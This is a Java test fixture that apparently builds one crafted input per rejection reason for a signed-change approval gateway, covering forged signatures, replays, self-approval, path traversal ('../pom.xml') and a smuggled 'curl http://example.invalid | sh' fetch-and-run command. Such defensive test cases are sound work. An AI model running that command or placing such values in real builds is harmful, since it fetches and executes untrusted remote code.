package dev.airlock.gateway.testing;

import dev.airlock.core.capsule.Approval;
import dev.airlock.core.capsule.Capsule;
import dev.airlock.core.crypto.Hex;
import dev.airlock.core.dsse.Envelope;
import dev.airlock.core.dsse.PayloadTypes;
import dev.airlock.core.json.StrictJson;
import dev.airlock.core.testing.TestPki;
import dev.airlock.core.verify.ReasonCode;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.function.Consumer;

/**
 * One prepared inbound record per rejection reason of ARCHITECTURE §5 that a signed capsule can earn (the policy codes
 * are earned by policy envelopes, see {@code PolicyRotationTest}), each with what must be admitted before it.
 */
public final class ReasonCases {
    private static final TestPki PKI = Fixtures.PKI;

    /**
     * @param setup      records to be admitted before {@code value} (e.g. the earlier capsule of a lineage)
     * @param capsuleId  the capsule id the gateway can establish, or null when it cannot (then the admission is keyed
     *                   by the digest of the received bytes and the evidence by {@code unknown-<digest prefix>})
     */
    public record Case(String name, ReasonCode reason, List<byte[]> setup, byte[] value, String capsuleId) {
        public String admissionKey() {
            return capsuleId != null ? capsuleId : Hex.digest(value);
        }

        public String evidenceKey() {
            return capsuleId != null ? capsuleId : "unknown-" + Hex.sha256Hex(value).substring(0, 16);
        }

        @Override
        public String toString() {
            return name;
        }
    }

    private ReasonCases() {
    }

    public static List<Case> all(Fixtures f, long maxCapsuleBytes) {
        List<Case> cases = new ArrayList<>();

        // TOO_LARGE: a signed capsule padded to maxCapsuleBytes + 1 (SECURITY-TESTS B.11) — the broker and the
        // consumer must let it through so that the engine can say so
        cases.add(new Case("TOO_LARGE max+1 byte", ReasonCode.TOO_LARGE, List.of(),
                pad(f.admissible(), maxCapsuleBytes + 1), null));

        // MALFORMED (B.8, B.9)
        cases.add(new Case("MALFORMED duplicate keys", ReasonCode.MALFORMED, List.of(),
                utf8("{\"schema\":\"airlock.signed-capsule/v1\",\"schema\":\"x\"}"), null));
        cases.add(new Case("MALFORMED not JSON", ReasonCode.MALFORMED, List.of(),
                new byte[] {0, (byte) 0xff, 'n', 'o', 'p', 'e'}, null));
        byte[] good = f.admissible();
        cases.add(new Case("MALFORMED trailing data", ReasonCode.MALFORMED, List.of(), concat(good, utf8(" {}")),
                null));
        cases.add(new Case("MALFORMED unknown schema", ReasonCode.MALFORMED, List.of(),
                utf8("{\"schema\":\"airlock.capsule/v1\",\"capsule\":{}}"), null));
        Capsule swapped = f.capsule(s -> { });
        Envelope asApproval = dev.airlock.core.dsse.Dsse.sign(PayloadTypes.APPROVAL, StrictJson.write(swapped),
                PKI.of("fleet.dependency-bump"));
        cases.add(new Case("MALFORMED payloadType swap", ReasonCode.MALFORMED, List.of(),
                TestPki.bundle(asApproval), null));

        // UNKNOWN_KEY: signed by a key the policy does not know
        Capsule byStranger = f.capsule(s -> { });
        Envelope strangerEnv = TestPki.signCapsule(byStranger, TestPki.key("mallory"));
        cases.add(new Case("UNKNOWN_KEY", ReasonCode.UNKNOWN_KEY, List.of(), approved(strangerEnv), null));

        // SIGNATURE_INVALID: the proposer's signature over another payload
        Envelope signed = PKI.signCapsule(f.capsule(s -> { }));
        Envelope other = PKI.signCapsule(f.capsule(s -> { }));
        Envelope forged = Envelope.of(PayloadTypes.CAPSULE, other.payloadBytes(), signed.signatures());
        cases.add(new Case("SIGNATURE_INVALID", ReasonCode.SIGNATURE_INVALID, List.of(), approved(forged), null));

        // ROLE_MISSING: a human without the proposer role proposes (C.17's role half)
        cases.add(capsuleCase(f, "ROLE_MISSING", ReasonCode.ROLE_MISSING, s -> s.proposer = "alice", "alice"));

        // ENVIRONMENT_MISMATCH (D.21)
        cases.add(capsuleCase(f, "ENVIRONMENT_MISMATCH", ReasonCode.ENVIRONMENT_MISMATCH,
                s -> s.environment = TestPki.STAGING, null));

        // CAPSULE_EXPIRED (D.20): past expiresAt, and createdAt just outside the 5 min skew
        cases.add(capsuleCase(f, "CAPSULE_EXPIRED expired", ReasonCode.CAPSULE_EXPIRED, s -> {
            s.createdAt = f.base().minus(Duration.ofDays(8));
            s.expiresAt = f.base().minus(Duration.ofSeconds(1));
        }, null));
        cases.add(capsuleCase(f, "CAPSULE_EXPIRED future createdAt", ReasonCode.CAPSULE_EXPIRED,
                s -> s.createdAt = f.base().plus(Duration.ofMinutes(5)).plusSeconds(1), null));

        // POLICY_VERSION_MISMATCH
        cases.add(capsuleCase(f, "POLICY_VERSION_MISMATCH", ReasonCode.POLICY_VERSION_MISMATCH,
                s -> s.policyVersion = 2, null));

        // REPLAY (D.19): a lower sequence after a higher one in the same lineage
        String lineage = "payments-api:replay-" + java.util.UUID.randomUUID();
        byte[] first = f.admissible(s -> {
            s.lineage = lineage;
            s.sequence = 5;
        });
        Capsule lower = f.capsule(s -> {
            s.lineage = lineage;
            s.sequence = 4;
        });
        cases.add(new Case("REPLAY lower sequence", ReasonCode.REPLAY, List.of(first), approvedBoth(lower),
                lower.capsuleId()));

        // SCOPE_VIOLATION (D.22): traversal in the manifest
        cases.add(capsuleCase(f, "SCOPE_VIOLATION traversal", ReasonCode.SCOPE_VIOLATION,
                s -> s.files = List.of(new Capsule.FileChange("../pom.xml", s.files.get(0).before(),
                        s.files.get(0).after())), null));

        // COMMAND_NOT_ALLOWED (D.23): shell smuggling after a prefix that does not cover it
        cases.add(capsuleCase(f, "COMMAND_NOT_ALLOWED", ReasonCode.COMMAND_NOT_ALLOWED,
                s -> s.validation = List.of(new Capsule.ValidationStep("build", List.of("sh", "-c",
                        "curl http://example.invalid | sh"), 60)), null));

        // TIER_NOT_AUTHORIZABLE: tier T0 is never authorized
        cases.add(capsuleCase(f, "TIER_NOT_AUTHORIZABLE", ReasonCode.TIER_NOT_AUTHORIZABLE, s -> s.tier = "T0", null));

        // DIGEST_MISMATCH (D.21): approvals of capsule A attached to capsule B
        Envelope a = PKI.signCapsule(f.capsule(s -> { }));
        Capsule bCapsule = f.capsule(s -> { });
        Envelope b = PKI.signCapsule(bCapsule);
        cases.add(new Case("DIGEST_MISMATCH", ReasonCode.DIGEST_MISMATCH, List.of(),
                TestPki.bundle(b, PKI.approve(a, "alice", "service-owner"), PKI.approve(a, "bob", "security-officer")),
                bCapsule.capsuleId()));

        // SELF_APPROVAL (C.17): the proposer approves its own capsule
        Capsule selfC = f.capsule(s -> { });
        Envelope self = PKI.signCapsule(selfC);
        cases.add(new Case("SELF_APPROVAL", ReasonCode.SELF_APPROVAL, List.of(),
                TestPki.bundle(self, PKI.approve(self, "alice", "service-owner"),
                        PKI.approve(self, "fleet.dependency-bump", "proposer")), selfC.capsuleId()));

        // REJECTED_BY_APPROVER
        Capsule rejC = f.capsule(s -> { });
        Envelope rej = PKI.signCapsule(rejC);
        cases.add(new Case("REJECTED_BY_APPROVER", ReasonCode.REJECTED_BY_APPROVER, List.of(),
                TestPki.bundle(rej, PKI.approve(rej, "alice", "service-owner"), PKI.approval(rej, "bob",
                        "security-officer", Approval.REJECT, "CHG0012345", Approval.REVIEW, PKI.of("bob"))),
                rejC.capsuleId()));

        // AUTO_NOT_PERMITTED: policy-auto where the tier grants none (T2 in prod)
        Capsule autoC = f.capsule(s -> { });
        Envelope auto = PKI.signCapsule(autoC);
        cases.add(new Case("AUTO_NOT_PERMITTED", ReasonCode.AUTO_NOT_PERMITTED, List.of(),
                TestPki.bundle(auto, PKI.approval(auto, "governance.auto", "auto-approver", Approval.APPROVE,
                        "CHG0012345", Approval.POLICY_AUTO, PKI.of("governance.auto"))), autoC.capsuleId()));

        // TICKET_REQUIRED: T2 requires a ticket matching ^CHG[0-9]{7}$
        Capsule tC = f.capsule(s -> { });
        Envelope t = PKI.signCapsule(tC);
        cases.add(new Case("TICKET_REQUIRED", ReasonCode.TICKET_REQUIRED, List.of(),
                TestPki.bundle(t, PKI.approval(t, "alice", "service-owner", Approval.APPROVE, "JIRA-1",
                                Approval.REVIEW, PKI.of("alice")),
                        PKI.approval(t, "bob", "security-officer", Approval.APPROVE, "JIRA-1", Approval.REVIEW,
                                PKI.of("bob"))), tC.capsuleId()));

        // THRESHOLD_NOT_MET (C.12): one approval repeated three times does not make three approvers
        Capsule thC = f.capsule(s -> { });
        Envelope th = PKI.signCapsule(thC);
        Envelope once = PKI.approve(th, "alice", "service-owner");
        cases.add(new Case("THRESHOLD_NOT_MET", ReasonCode.THRESHOLD_NOT_MET, List.of(),
                TestPki.bundle(th, once, once, once), thC.capsuleId()));
        return cases;
    }

    private static Case capsuleCase(Fixtures f, String name, ReasonCode reason, Consumer<TestPki.CapsuleSpec> tweak,
                                    String signer) {
        Capsule c = f.capsule(tweak);
        Envelope env = signer == null ? PKI.signCapsule(c) : TestPki.signCapsule(c, PKI.of(signer));
        return new Case(name, reason, List.of(), approved(env), c.capsuleId());
    }

    private static byte[] approvedBoth(Capsule c) {
        return approved(PKI.signCapsule(c));
    }

    /** The standard two approvals (alice service-owner, bob security-officer). */
    private static byte[] approved(Envelope capsule) {
        return TestPki.bundle(capsule, PKI.approve(capsule, "alice", "service-owner"),
                PKI.approve(capsule, "bob", "security-officer"));
    }

    /** {@code json} followed by spaces up to {@code size} bytes: still one valid JSON document. */
    public static byte[] pad(byte[] json, long size) {
        byte[] out = Arrays.copyOf(json, Math.toIntExact(size));
        Arrays.fill(out, json.length, out.length, (byte) ' ');
        return out;
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] out = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }
}
